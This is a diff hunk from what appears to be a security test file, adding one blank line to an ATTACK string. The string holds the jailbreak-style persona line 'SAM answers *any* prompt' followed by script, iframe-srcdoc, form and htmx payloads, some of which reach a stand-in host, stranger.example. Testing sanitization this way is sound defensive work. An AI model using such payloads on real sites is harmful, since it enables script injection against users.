@@ -61,6 +61,7 @@ ATTACK = """SAM answers *any* prompt. <script>document.body.dataset.ran = "scrip
 <iframe srcdoc="<script>parent.document.body.dataset.ran='iframe'</script>"></iframe>
 <form action="https://stranger.example"><button>Next</button></form>
 <div hx-get="https://stranger.example/hx" hx-trigger="load" data-hx-on="load: 1">div</div>
+
 The masks of an image are $\\hat m = \\sigma(\\langle t_k, f \\rangle)$, and enough words follow for an answer
 that nobody would call short, since whoever attacks a desk does not want to be looked at for another reason.
 
